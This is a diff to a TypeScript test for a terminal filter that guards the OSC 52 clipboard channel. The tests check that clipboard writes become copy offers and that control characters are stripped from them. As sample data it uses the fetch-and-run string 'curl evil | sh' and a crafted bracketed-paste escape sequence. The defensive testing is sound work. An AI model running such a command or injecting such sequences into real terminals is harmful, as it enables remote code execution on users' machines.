@@ -80,8 +80,11 @@ test('terminal filter: OSC 52 never passes; a valid write is a copy offer, a que
   assert.equal(r.out, 'abcd');
   assert.deepEqual(
     r.events.filter((e) => e.type !== 'dropped'),
-    [{ type: 'copy-offer', text: 'curl evil | sh\n\u00e9', bytes: 17 }, { type: 'clipboard-query' }, { type: 'copy-offer', text: 'x', bytes: 1 }],
+    [{ type: 'copy-offer', text: 'curl evil | sh\n\u00e9', bytes: 17, removed: 0 }, { type: 'clipboard-query' }, { type: 'copy-offer', text: 'x', bytes: 1, removed: 0 }],
   );
+  // Control characters other than tab, LF and CR never reach the clipboard: no paste end, no palette key.
+  const seeded = run(`\x1b]52;c;${b64('ls\x1b[201~\x1c\x16\tok\r\n\u009b\x7f')}\x07`).events[0];
+  assert.deepEqual(seeded, { type: 'copy-offer', text: 'ls[201~\tok\r\n', bytes: 18, removed: 5 });
   const refused = (s: string) => run(s).events.filter((e) => e.type === 'copy-refused').length;
   assert.equal(refused('\x1b]52;c;not*base64\x07'), 1);
   assert.equal(refused(`\x1b]52;c;${Buffer.from([0xff, 0xfe]).toString('base64')}\x07`), 1);
